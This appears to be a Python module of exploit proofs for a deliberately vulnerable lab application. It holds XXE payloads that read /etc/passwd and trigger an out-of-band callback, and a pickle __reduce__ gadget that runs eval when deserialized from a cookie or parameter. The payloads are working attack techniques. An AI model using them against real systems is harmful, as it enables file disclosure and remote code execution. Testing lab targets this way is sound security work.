"""Exploits of documents that do more than say something."""

import base64
import pickle
from typing import Any

from lab.client import Lab, listen

_FILE = '<!DOCTYPE o [<!ENTITY e SYSTEM "file:///etc/passwd">]><order>&e;</order>'


async def _xxe_file(lab: Lab) -> bool:
    return "root:x:0:0:" in (await lab.post("/orders/import", order=_FILE)).text


async def _xxe_callback(lab: Lab) -> bool:
    async with listen() as listener:
        source = f'<!DOCTYPE o [<!ENTITY e SYSTEM "{listener.url}/x">]><order>&e;</order>'
        await lab.send("POST", "/api/feed", data=source, headers={"Content-Type": "application/xml"})
        return await listener.called(0.3)


class _Evaluated:
    """Unpickled, it is what the expression says."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return eval, ("'evaluated-' + str(6 * 119)",)


async def _pickle(lab: Lab) -> bool:
    value = base64.b64encode(pickle.dumps(_Evaluated())).decode()
    return (
        "evaluated-714" in (await lab.send("GET", "/catalog/view", headers={"Cookie": f"view={value}"})).text
    )


async def _pickled_link(lab: Lab) -> bool:
    value = base64.b64encode(pickle.dumps(_Evaluated())).decode()
    return "evaluated-714" in (await lab.get("/catalog/layout", state=value)).text


PROOFS = {
    "xxe-file": _xxe_file,
    "xxe-callback": _xxe_callback,
    "deserialization": _pickle,
    "deserialization-link": _pickled_link,
}
